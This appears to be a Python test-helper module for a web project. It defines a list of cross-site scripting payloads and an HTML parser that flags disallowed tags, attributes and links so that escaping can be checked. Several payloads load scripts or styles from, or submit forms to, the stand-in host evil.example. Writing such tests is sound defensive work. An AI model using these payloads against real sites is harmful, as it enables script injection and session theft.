"""Strings that strangers could send to run something, and a reader of HTML that sees whether they succeeded."""

from html.parser import HTMLParser

XSS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "javascript:alert(1)",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</mark></p></section><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`${alert(1)}`",
    "<div style=\"background:url('javascript:alert(1)')\">",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "[x](javascript:alert(1))",
    "<marquee onstart=alert(1)>",
)
_TAGS = frozenset(
    ("a", "article", "aside", "b", "body", "br", "button", "dd", "div", "dl", "dt", "em", "footer", "h1", "h2",
     "h3", "h4", "head", "header", "html", "input", "label", "li", "main", "mark", "meta", "option", "output",
     "p", "progress", "section", "select", "small", "span", "strong", "style", "table", "tbody", "td", "th",
     "thead", "title", "tr", "ul")
)  # fmt: skip
_ATTRIBUTES = frozenset(
    ("autocomplete", "class", "colspan", "content", "charset", "download", "hidden", "href", "http-equiv", "id",
     "lang", "max", "name", "role", "scope", "tabindex", "title", "type", "value")
)  # fmt: skip


class Reader(HTMLParser):
    """Collects what does not belong: other tags, other attributes, addresses that are not our own files."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in _ATTRIBUTES and not name.startswith(("data-", "aria-")):
                self.wrong.append(f"{tag} {name}")
            if name == "href" and not (value or "").startswith(("data:", "/docs")):
                self.wrong.append(f"{tag} {name}={value}")
            if name == "href" and (value or "").startswith("data:") and "download" not in dict(attrs):
                self.wrong.append(f"{tag} opens {value}")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def read(markup: str) -> Reader:
    """What is in `markup`."""
    reader = Reader()
    reader.feed(markup)
    reader.close()
    return reader
